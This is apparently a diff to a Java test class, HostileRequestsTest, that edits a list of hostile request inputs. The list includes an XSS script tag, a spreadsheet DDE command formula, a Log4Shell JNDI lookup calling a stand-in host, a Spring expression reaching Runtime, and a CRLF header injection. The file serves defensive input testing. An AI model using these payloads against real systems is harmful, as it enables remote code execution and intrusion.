@@ -40,7 +40,7 @@ class HostileRequestsTest {
             "<script>alert(1)</script>",
             "=cmd|' /C calc'!A0",
             "${jndi:ldap://evil.example/a}",
-            "#{T(java.lang.Runtime).getRuntime()}",
+            "#{T(Runtime).getRuntime()}",
             "\r\nSet-Cookie: planted=1",
             "\u202e\ud83d\ude00\u0301蓝天",
             "\ud800",
